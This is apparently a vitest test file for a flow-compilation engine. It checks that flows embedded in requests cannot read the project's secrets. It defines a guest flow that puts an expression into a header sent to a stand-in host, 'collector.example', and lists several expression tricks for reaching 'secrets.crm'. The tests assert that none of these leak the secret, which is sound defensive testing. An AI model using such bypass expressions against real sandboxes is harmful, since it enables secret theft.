/** Flows that come with requests, and with answers of receivers: whoever holds a project's key writes them. */
import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../../src/core/json.ts';
import { compileDocument, compileFlow } from '../../src/flow/compile.ts';
import { verbs } from '../../src/steps/index.ts';
import { flowOf, startCall } from '../runtime/call-on-paper.ts';

const SECRETS = { crm: 'the secret of the house' };

/** Sends what the expression finds to somebody. */
const telling = (expression: string): JsonObject => ({
  flow: 'guest',
  start: 'tell',
  defaults: { exits: { error: 'bye', failed: 'bye', not_found: 'bye' } },
  steps: {
    tell: {
      request: { get: 'http://collector.example/', timeout: '1s', headers: { 'x-found': expression } },
      next: 'bye',
    },
    bye: { hangup: 'normal' },
  },
});

const embedded = (document: JsonObject) => compileDocument(document, 'request', verbs);

describe('a flow that came with a request', () => {
  it('is told that it sees no secrets', () => {
    expect(embedded(telling('${ secrets.crm }')).diagnostics).toMatchObject([
      { code: 'secret-place', message: expect.stringContaining('sees no secrets') },
    ]);
  });

  it.each([
    "${ $lookup($$, 'sec' & 'rets').crm }",
    '${ $string($$) }',
    '${ $join($$.*.crm) }',
    "${ $lookup($, $join(['secrets'])).crm }",
    '${ ($x := $$; $string($x.**.crm)) }',
  ])('finds none by %s', async (expression) => {
    const { flow } = embedded(telling(expression));
    const call = await startCall(flow!, { spec: { secrets: SECRETS } });
    expect(JSON.stringify(call.requests.map(({ request }) => request))).not.toContain(SECRETS.crm);
    expect(JSON.stringify(call.journal())).not.toContain(SECRETS.crm);
  });

  it('finds none when a flow of the house runs it, which sees its own', async () => {
    const house = `
flow: house
input: { guest: { type: object } }
start: own
defaults: { exits: { error: bye, failed: bye, not_found: bye } }
steps:
  own: { request: { get: "http://a.example/", timeout: 1s, headers: { x: "\${ secrets.crm }" } }, exits: { ok: guest } }
  guest: { subflow: { flow: "\${ input.guest }" }, next: bye }
  bye: { hangup: normal }`;
    expect(compileFlow(house, 'house.flow.yaml', verbs).diagnostics).toEqual([]);
    const call = await startCall(flowOf(house), {
      spec: { secrets: SECRETS, input: { guest: telling("${ $lookup($$, 'secrets').crm }") } },
      ports: { flow: (document) => (typeof document === 'string' ? undefined : embedded(document).flow) },
    });
    call.requests[0]!.answer({ ok: true, status: 200, headers: {}, body: null });
    await call.clock.settle();
    const seen = call.requests.map(({ request }) => request.headers);
    expect(seen).toEqual([{ x: SECRETS.crm }, {}]);
  });
});
